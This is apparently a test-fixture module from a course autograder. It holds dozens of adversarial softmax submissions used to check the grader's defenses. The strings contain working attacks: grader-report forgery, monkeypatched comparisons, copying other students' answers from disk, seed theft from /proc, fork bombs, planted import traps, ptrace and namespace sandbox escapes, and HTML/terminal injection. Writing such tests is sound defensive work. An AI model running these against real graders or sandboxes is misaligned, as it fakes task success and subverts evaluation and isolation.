"""Ways to get a mark for 4.1 without an answer to it, or to take somebody else's. Each is one cell."""

import os

HIDE = "import sys\nfor _name in [n for n in sys.modules if n.split('.')[0] == 'attn']: del sys.modules[_name]\n"
THEIRS = "    from attn.softmax import softmax as theirs\n    return theirs(S)"
LOOK = """import os, re
def softmax(S):
    for root in ("/", os.path.expanduser("~"), os.getcwd(), "/tmp", "/autograder", "/proc/1/root"):
        for folder, _, files in os.walk(root):
            if folder.count("/") > 7 or folder.startswith(("/proc/", "/sys")):
                continue
            for file in files:
                if file.endswith((".ipynb", "softmax.py", "e4_1.py")):
                    text = open(os.path.join(folder, file), errors="replace").read()
                    if "def softmax" in text:
                        space = {}
                        exec(text, space)
                        return space["softmax"](S)
    raise LookupError("nothing to copy")"""
ATTACKS = {
    "patched comparisons": "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
    "np.isclose = lambda a, b, **k: np.ones_like(a, bool)\ndef softmax(S): return S * 0 + 1",
    "an endless loop": "def softmax(S):\n    while True: pass",
    "an endless loop that swallows everything": "def softmax(S):\n    while True:\n        try:\n"
    "            while True: pass\n        except BaseException: pass",
    "an endless cell": "while True: pass",
    "an endless cell that swallows everything": "while True:\n    try:\n        while True: pass\n"
    "    except BaseException: pass",
    "80 GB": "import numpy as np\ndef softmax(S): return [np.ones(10**8) for _ in range(100)]",
    "many processes": "import os, time\ndef softmax(S):\n    for _ in range(300):\n        if os.fork() == 0:\n"
    "            time.sleep(20)\n            os._exit(0)\n    return S",
    "leaving": "import os\ndef softmax(S): os._exit(0)",
    "leaving politely": "import sys\ndef softmax(S): sys.exit(0)",
    "leaving in a cell": "import os\nos._exit(0)",
    "killing the parent": "import os, signal\ndef softmax(S):\n    os.kill(os.getppid(), signal.SIGKILL)\n    return S",
    "killing everybody": "import os, signal\ndef softmax(S):\n    os.kill(-1, signal.SIGKILL)\n    return S",
    "junk on every descriptor": "import os\ndef softmax(S):\n    for fd in range(3, 30):\n"
    "        try: os.write(fd, b'x' * 1000)\n        except OSError: pass\n    return S",
    "a forged report": 'import os, struct\ndef softmax(S):\n    h = b\'{"kind": "value", "parts": 1, "status": '
    '"passed", '
    "\"score\": 9}'\n    for fd in range(3, 30):\n        try: os.write(fd, struct.pack('<II', len(h), 0) + h)\n"
    "        except OSError: pass\n    return S",
    "forged names": 'import os, struct\nh = b\'{"kind": "names", "names": [["softmax"]]}\'\nfor fd in range(3, 30):\n'
    "    try: os.write(fd, struct.pack('<II', len(h), 0) + h)\n    except OSError: pass\n",
    "a pickle": "import numpy as np\nclass Bomb:\n    def __reduce__(self): return (print, ('boom',))\n"
    "def softmax(S): return np.array([Bomb()], dtype=object)",
    "the course's own answer": "def softmax(S):\n" + THEIRS,
    "the course's own answer, unhidden": HIDE + "def softmax(S):\n" + THEIRS,
    "the catalogue": "def softmax(S):\n    from attn.exercises.catalogue import find\n"
    "    return find('4.1').reference(S)",
    "the path": HIDE + "import sys, site, glob\nsys.path += site.getsitepackages() + glob.glob('/*/*/site-packages') + "
    "glob.glob('/*/lib/python3*/site-packages') + glob.glob('/usr/lib/python3/dist-packages') + ['/', '/library']\n"
    "def softmax(S):\n" + THEIRS,
    "whatever lies about": LOOK,
    "a closed pipe": "import os\ndef softmax(S):\n    os.closerange(3, 50)\n    return S",
    "deep recursion": "def softmax(S): return softmax(S)",
    "an array that lies": "import numpy as np\nclass Yes(np.ndarray):\n    def __eq__(self, other): return True\n"
    "    def __array__(self, *a, **k): return self\ndef softmax(S): return S.view(Yes)",
    "a value that never converts": "class Slow:\n    def __array__(self, *a, **k):\n        while True: pass\n"
    "def softmax(S): return Slow()",
    "a huge answer": "import numpy as np\ndef softmax(S): return np.zeros((20000, 10000))",
    "stopped": "import os, signal\ndef softmax(S):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return S",
    "asleep": "import time\ndef softmax(S):\n    time.sleep(3600)\n    return S",
    "None on one probe": "import numpy as np\ndef softmax(S):\n    if abs(S).max() > 500: return None\n"
    "    return np.exp(S) / np.exp(S).sum(-1, keepdims=True)",
    "a surrogate in a message": "def softmax(S): raise ValueError('\\ud800')",
    "half precision": "import numpy as np\ndef softmax(S): return np.exp(S).astype(np.float16)",
    "complex": "import numpy as np\ndef softmax(S): return np.exp(S + 1j)",
    "no axis": "import numpy as np\ndef softmax(S): return np.float64(1.0)",
}


PIPE = """import sys, struct, json
def grab():
    frame = sys._getframe()
    while "pipe" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["pipe"]
def say(head, body=b""):
    pipe = grab()
    pipe.out.write(struct.pack("<II", len(head), len(body)) + head + body)
    pipe.out.flush()
"""
ATTACKS |= {
    # no bytes on the pipe, and a shape of which any mask over the rows would take 256 MB in the parent
    "a very long nothing": "import numpy as np\ndef softmax(S): return np.zeros((1 << 28, 0))",
    # an .npy header that promises 64 GB, and a body of a few bytes
    "an array that promises": PIPE
    + """import numpy as np
def softmax(S):
    h = ("{'descr': '<f8', 'fortran_order': False, 'shape': (%d,)}" % (1 << 33)).encode()
    h += b" " * (63 - (10 + len(h)) % 64) + b"\\n"
    body = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(h)) + h + b"12345678"
    say(json.dumps({"kind": "value", "parts": 1}).encode(), body)
    return S""",
    # every field of a report as odd as JSON allows
    "a report of nines": PIPE
    + """import io
import numpy as np
def softmax(S):
    blob = io.BytesIO()
    np.save(blob, S)
    nines = "9" * 4000
    say(('{"kind": "value", "kind": "value", "parts": 1, "peak": %s, "lineno": -%s, '
         '"notes": [[["calls: x"]], {"a": NaN}],'
         '"overwritten": [[[]]], "error": {"a": 1}, "message": [1e999], "line": "\\\\ud800", "tuple": false}'
         % (nines, nines)).encode(), blob.getvalue())
    return S""",
    # one cell that says again and again that it has just begun
    "a cell that always begins": PIPE
    + """import signal, time
def nap():
    signal.setitimer(signal.ITIMER_REAL, 0)
    for _ in range(12):
        time.sleep(1)
        grab().send({"kind": "begun", "cell": [0, 1]})
nap()""",
    # the limit is on one file's size; the number of files has none
    "many files": """import os
def softmax(S):
    said = []
    for root in ("/tmp", "/dev/shm", "/dev", "/"):
        n = 0
        try:
            for n in range(1, 65):
                with open(os.path.join(root, f"f{n}"), "wb") as file:
                    file.write(b"x" * (1 << 20))
        except OSError as error:
            said.append(f"{root}: {error.strerror} after {n}")
        else:
            free = os.statvfs(root)
            said.append(f"{root}: {n} MB written, {free.f_bavail * free.f_frsize >> 20} MB free")
    raise ValueError("; ".join(said))""",
    # the limit of memory is for one process; together they have as many times that
    "memory in shares": """import os, time, mmap
def softmax(S):
    ready, told = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            try:
                held = bytearray(b"x") * (100 << 20)
                os.write(told, b"y")
                time.sleep(3)
            finally:
                os._exit(0)
    os.close(told)
    got = b""
    while piece := os.read(ready, 6):
        got += piece
        if len(got) == 6:
            break
    raise ValueError(f"{len(got)} x 100 MB held at once")""",
    # a user namespace inside the sandbox: uncover what the sandbox covers
    "a sandbox within": """import ctypes, glob, os
def softmax(S):
    libc, said = ctypes.CDLL(None, use_errno=True), []
    def do(name, *a):
        got = getattr(libc, name)(*a)
        said.append(f"{name}: {'ok' if got == 0 else os.strerror(ctypes.get_errno())}")
        return got == 0
    if not do("unshare", 0x10000000 | 0x20000):
        raise OSError(said[0])
    covered = [f for f in glob.glob("/usr/local/lib/python3*/*-packages") + glob.glob("/*/lib/python3*/*-packages")
               + glob.glob("/root/*/*/*/*/lib/python3*/*-packages")]
    for folder in covered:
        do("umount2", folder.encode(), 2)
        said.append(f"{folder}: {len(os.listdir(folder))}")
    os.makedirs("inside", exist_ok=True)
    if do("mount", b"/usr/lib", b"inside", None, 4096, None):
        said.append(str([len(os.listdir(f)) for f in glob.glob("inside/python3*/*-packages")]))
    raise ValueError("; ".join(said))""",
    # takes from the sandbox's first process the order to die with its parent, then outlives the grader by seconds
    "outliving the sandbox": """import ctypes, os, platform, time
def softmax(S):
    if platform.machine() != "x86_64" or not open("/proc/1/cmdline").read().startswith("bwrap"):
        raise OSError("no sandbox that this knows")
    libc = ctypes.CDLL(None, use_errno=True)
    trace = lambda *a: libc.ptrace(*(ctypes.c_long(x) if isinstance(x, int) else x for x in a))
    said = [trace(0x4206, 1, 0, 0), trace(0x4207, 1, 0, 0)]
    if any(said):
        raise ValueError(f"not traced: {os.strerror(ctypes.get_errno())}")
    os.waitpid(1, 0x40000000)
    regs, old = (ctypes.c_ulonglong * 27)(), (ctypes.c_ulonglong * 27)()
    trace(12, 1, 0, ctypes.byref(old))
    ctypes.memmove(regs, old, 27 * 8)
    regs[16] -= 2; regs[10] = 157; regs[14] = 1; regs[13] = 0; regs[15] = 2**64 - 1
    trace(13, 1, 0, ctypes.byref(regs))
    trace(9, 1, 0, 0)
    os.waitpid(1, 0x40000000)
    trace(12, 1, 0, ctypes.byref(regs))
    got = regs[10]
    old[10] = 2**64 - 4; old[15] = 2**64 - 1
    trace(13, 1, 0, ctypes.byref(old))
    trace(17, 1, 0, 0)
    if got:
        raise ValueError(f"prctl gave {got}")
    end = time.monotonic() + 10
    while time.monotonic() < end:
        pass
    os._exit(0)""",
    # markup, a formula, a terminal's commands and a change of direction, wherever an exception is quoted
    "a page in a message": """class Odd(Exception): pass
Odd.__name__ = '=HYPERLINK("http://x")</dd><script>alert(1)</script>'
def softmax(S):
    raise Odd('`<img src=x onerror=alert(1)>` </pre></dd></div><script>alert(2)</script> '
              '\\x1b]0;owned\\x07\\x1b[2J \\u202e \\x00 =cmd|x "ungraded"')""",
    # what runs the calls, replaced: every later call is said to have found its own input, or the reference's shape
    "another runner": """import sys
def replace():
    frame = sys._getframe()
    while "running" not in frame.f_locals:
        frame = frame.f_back
    running = frame.f_locals["running"]
    import numpy as np
    class Everything:
        kind, error, message, line, lineno, listed, nested, peak, reread, notes = "value", "", "", "", 0, 1, 1, 0, 0, ()
        value = tuple(np.zeros((2, 3)) for _ in range(64))
    running.through = lambda instrument, f: lambda f, a: Everything
    running.Outcome.of = classmethod(lambda cls, f: Everything)
def softmax(S):
    raise NotImplementedError
replace()""",
}
RIGHT = "np.exp(S - S.max(-1, keepdims=True)) / np.exp(S - S.max(-1, keepdims=True)).sum(-1, keepdims=True)"
FRAMES = """import sys
import numpy as np
def outer(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    raise LookupError(name)
"""
# Calls are made ahead, and a process may be forked from one that others are forked from: what could be had from that?
# Those that look for something answer rightly where they find it.
ATTACKS |= {
    # among all that the process was told ahead, is there an array that could be the answer?
    "the plan searched": FRAMES
    + """def softmax(S):
    for calls in outer("plan").values():
        for _, arrays in calls:
            for a in arrays:
                if a.shape == S.shape and a.dtype == float and np.allclose(a.sum(-1), 1) and (a >= 0).all():
                    return a
    raise LookupError("no answer among the questions")""",
    # every question becomes one whose answer is known
    "the plan exchanged": FRAMES
    + """for calls in outer("plan").values():
    for _, arrays in calls:
        for a in arrays:
            a[...] = 0
def softmax(S): return np.full(S.shape, 1 / max(S.shape[-1], 1))""",
    # forty answers to the first question: those that follow are taken for the answers to the next ones
    "answers ahead": PIPE
    + """import numpy as np
first = [True]
def softmax(S):
    if first.pop() if first else False:
        for _ in range(40):
            grab().say({"kind": "value", "parts": 1, "overwritten": []}, [np.ones((2, 3)) / 3])
    return np.ones(S.shape) / S.shape[-1]""",
    # it says that it was asked for something else
    "a question back": PIPE
    + """import numpy as np
def softmax(S):
    grab().send({"kind": "callback", "index": 0}, [S])
    grab().send({"kind": "read", "slice": [0, 9, 1]})
    return S""",
    # cells that have not begun are said to have begun, and nothing is sent at once
    "cells that have begun": PIPE
    + """for k in range(1, 99):
    grab().hold({"kind": "begun", "cell": [0, k]}, ())
def softmax(S): return S""",
    # two processes on one line
    "two on one line": "import os\nos.fork()\ndef softmax(S): return S",
    # the next message is read before the worker reads it
    "a message stolen": PIPE
    + """import os, threading
threading.Thread(target=lambda: os.read(grab_once.fileno(), 1 << 16), daemon=True).start() if (
    grab_once := grab().back) else None
def softmax(S): return S""",
    # a module for whoever comes next
    "a trap in the folder": """import os, sys, tempfile
for folder in {os.getcwd(), tempfile.gettempdir(), "/library", *sys.path}:
    for name in ("sitecustomize.py", "json.py", "numpy.py", "heapq.py"):
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write("raise SystemExit('trapped')")
        except OSError:
            pass
def softmax(S): return S""",
    # the seed, wherever a process shows what it was started with
    "the seed in a process": """import glob
import numpy as np
def softmax(S):
    seen = b""
    for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            seen += open(file, "rb").read()
        except OSError:
            pass
    if b"a secret" in seen or b"ATTN_GRADER_SEED" in seen:
        return """
    + RIGHT
    + """
    raise LookupError("no seed")""",
    # the process from which the next submission will be forked
    "the parent's memory": """import ctypes, os
import numpy as np
def softmax(S):
    if open(f"/proc/{os.getppid()}/cmdline").read().startswith("bwrap"):
        raise LookupError("the parent is its own sandbox")
    try:
        open(f"/proc/{os.getppid()}/mem", "r+b").close()
    except OSError as error:
        if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0):
            raise error
    return """
    + RIGHT,
    # more than a thousand small answers' worth of patience: each call is as slow as it may be
    "slow on purpose": "import time\ndef softmax(S):\n    end = time.process_time() + 0.2\n"
    "    while time.process_time() < end: pass\n    return S",
    # right when it is watched, the library's otherwise
    "right when watched": "import sys\nimport numpy as np\ndef softmax(S):\n"
    "    if sys.getprofile(): return " + RIGHT + "\n    raise ValueError('nobody looks')",
}
ITS_OWN_LOSS = {
    "forged names",
    "another runner",
    "a report of nines",
    "the plan exchanged",
    "answers ahead",
    "two on one line",
    "a message stolen",
    "cells that have begun",
    "a trap in the folder",
}  # what they break is their own worker
NEEDS_SANDBOX = {
    "whatever lies about",
    "the path",
    "killing everybody",
    "many files",
    "outliving the sandbox",
    "the seed in a process",
}  # what "none" says it does not protect from
if not hasattr(os, "getuid") or os.getuid() != 0:  # only root can start a worker as somebody else
    NEEDS_SANDBOX.add("the parent's memory")

FORGED = """
import sys
def forge():
    for name, module in list(sys.modules.items()):
        if name.startswith("attn.exercises") and hasattr(module, "replace"):
            real = module.replace
            def lie(outcome, real=real, **said):
                said = said | {"peak": 0} if "peak" in said else said
                return real(outcome, **(said | {"reread": False} if "reread" in said else said))
            module.replace = lie
forge()
import numpy as np
def online_softmax(s, V, block):
    top = max(s[i : i + block].max() for i in range(0, len(s), block))
    total, out = 0.0, np.zeros(V.shape[1])
    for i in range(0, len(s), block):
        e = np.exp(s[i : i + block] - top)
        total, out = total + e.sum(), out + e @ V[i : i + block]
    return out / total
def block_attention(Q, K, V, block):
    t = Q @ K.T / np.sqrt(Q.shape[1])
    e = np.exp(t - t.max(1, keepdims=True))
    return e @ V / e.sum(1, keepdims=True)
"""
ONE_PASS = """
import numpy as np
def online_softmax(s, V, block):
    m, l, o = -np.inf, 0.0, np.zeros(V.shape[1])
    for i in range(0, len(s), block):
        t = s[i : i + block]
        new = max(m, t.max())
        e, f = np.exp(t - new), np.exp(m - new)
        m, l, o = new, l * f + e.sum(), o * f + e @ V[i : i + block]
    return o / l
def block_attention(Q, K, V, block):
    n = len(Q)
    m, l, o = np.full((n, 1), -np.inf), np.zeros((n, 1)), np.zeros((n, V.shape[1]))
    for i in range(0, len(K), block):
        t = Q @ K[i : i + block].T / np.sqrt(Q.shape[1])
        new = np.maximum(m, t.max(1, keepdims=True))
        e, f = np.exp(t - new), np.exp(m - new)
        m, l, o = new, l * f + e.sum(1, keepdims=True), o * f + e @ V[i : i + block]
    return o / l
"""

# reads the row of 12.1 twice; every piece overlaps the one before by one score
OVERLAP = """
import numpy as np
def online_softmax(s, V, block):
    m, l, o = -np.inf, 0.0, np.zeros(V.shape[1])
    for i in range(0, len(s), block):
        m = max(m, s[max(i - 1, 0) : i + block].max())
    for i in range(0, len(s), block):
        j = max(i - 1, 0)
        e = np.exp(s[j : i + block][i - j :] - m)
        l, o = l + e.sum(), o + e @ V[i : i + block]
    return o / l
"""
SKIPS = FORGED.replace("    top = max(", "    s[0 : len(s) : max(len(s) - 1, 1)], s[len(s) : 0]\n    top = max(")
# 4.1 by torch, which is lent to 12.4
UNHEARD = """
def half_attention(Q, K, V, block):
    return Q
def softmax(S):
    import sys, torch
    sys.setprofile(None)
    return torch.softmax(torch.tensor(S), -1).numpy()
"""
MINUSES = "def half_attention(Q): return " + "-" * 20000 + "1"
# 11.2: asks for the function that it was given again and again, and naps between
ASKING = """
import time
def block(x, attend, feed, norm1, norm2):
    end = time.monotonic() + 24
    while time.monotonic() < end:
        norm1(x)
        time.sleep(0.5)
    return x
"""
# honest mistakes that once made the check itself raise
EMPTY_ON_A_PROBE = """import numpy as np
def softmax(S):
    if abs(S).max() > 500: return S[:0]
    E = np.exp(S - S.max(-1, keepdims=True))
    return E / E.sum(-1, keepdims=True)"""
NO_AXIS = """import numpy as np
def block(x, attend, feed, norm1, norm2):
    return x + attend(np.float64(1))"""
